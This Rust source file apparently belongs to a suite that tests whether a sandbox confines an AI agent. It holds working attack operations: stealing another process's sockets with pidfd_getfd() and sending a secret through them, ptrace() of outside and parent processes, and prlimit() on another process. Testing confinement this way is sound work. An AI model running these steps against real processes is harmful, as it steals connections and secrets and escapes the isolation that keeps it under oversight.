//! Attacks through a process outside the agent.

use std::{
    io,
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
};

use super::{Args, Failure, Operation, Outcome, Step as _, Trace};
use crate::sys;

/// What this file offers.
pub const OPERATIONS: &[Operation] = &[
    Operation::new(
        "steal-victim-socket",
        Trace::Marker,
        "pidfd_getfd() of an outsider's socket",
        steal_victim,
    ),
    Operation::new("trace-victim", Trace::Nothing, "ptrace() of an outsider", trace_victim),
    Operation::new("limit-victim", Trace::Nothing, "prlimit() that sets an outsider's limits", |args| {
        limit(victim(args)?)
    }),
    Operation::new("limit-own", Trace::Nothing, "the same for itself", |_| limit(0)),
    Operation::new("trace-ancestor", Trace::Nothing, "ptrace() of the parent", |_| {
        trace(std::os::unix::process::parent_id().try_into().unwrap_or(1))
    }),
];

/// File descriptors that are tried.
const DESCRIPTORS: i32 = 64;

fn victim(args: &Args) -> Result<i32, Failure> {
    args.victim.ok_or_else(|| Failure::new("victim", io::ErrorKind::NotFound))
}

fn pidfd(pid: i32) -> Result<OwnedFd, Failure> {
    // SAFETY: pidfd_open(2) takes integers only.
    let fd = sys::check(unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) }).step("pidfd_open")?;
    // SAFETY: the kernel has just given us this descriptor.
    Ok(unsafe { OwnedFd::from_raw_fd(i32::try_from(fd).unwrap_or(-1)) })
}

/// Takes every socket of `pid` that it can and sends through each. The last refusal, if none went through.
fn steal(pid: i32, args: &Args) -> Outcome {
    let process = pidfd(pid)?;
    let mut outcome = Err(Failure::new("pidfd_getfd", io::ErrorKind::NotFound));
    for number in 0..DESCRIPTORS {
        // SAFETY: pidfd_getfd(2) takes integers only.
        let taken = unsafe { libc::syscall(libc::SYS_pidfd_getfd, process.as_raw_fd(), number, 0) };
        let fd = match sys::check(taken) {
            Ok(fd) => fd,
            Err(error) if error.raw_os_error() == Some(libc::EBADF) => continue,
            Err(error) => {
                outcome = Err(error).step("pidfd_getfd");
                continue;
            }
        };
        // SAFETY: the kernel has just given us this descriptor.
        let fd = unsafe { OwnedFd::from_raw_fd(i32::try_from(fd).unwrap_or(-1)) };
        match sys::send_to(&fd, args.secret(), 0, args.to) {
            Ok(sent) => return Ok(sent),
            Err(error) if error.raw_os_error() == Some(libc::ENOTSOCK) => {}
            Err(error) => outcome = Err(error).step("sendto"),
        }
    }
    outcome
}

fn steal_victim(args: &Args) -> Outcome {
    steal(victim(args)?, args)
}

fn trace_victim(args: &Args) -> Outcome {
    trace(victim(args)?)
}

/// Sets the limit of open files to what it is, of the process `pid` or of its own.
fn limit(pid: i32) -> Outcome {
    // SAFETY: zero bytes are two numbers.
    let mut limit: libc::rlimit = unsafe { std::mem::zeroed() };
    let (none, kind) = (std::ptr::null(), libc::RLIMIT_NOFILE);
    // SAFETY: the limit is writable; the null pointer says that nothing is set.
    sys::check(unsafe { libc::prlimit(pid, kind, none, &raw mut limit) }).step("get")?;
    // SAFETY: the limit is readable; the null pointer says that the old one is not wanted.
    sys::check(unsafe { libc::prlimit(pid, kind, &raw const limit, std::ptr::null_mut()) })
        .step("prlimit")?;
    Ok(0)
}

fn trace(pid: i32) -> Outcome {
    let none = std::ptr::null_mut::<libc::c_void>();
    // SAFETY: PTRACE_SEIZE and PTRACE_DETACH read no memory when address and data are null; the kernel
    // detaches when we end in any case.
    sys::check(unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, none, none) }).step("ptrace")?;
    // SAFETY: as above.
    unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, none, none) };
    Ok(0)
}
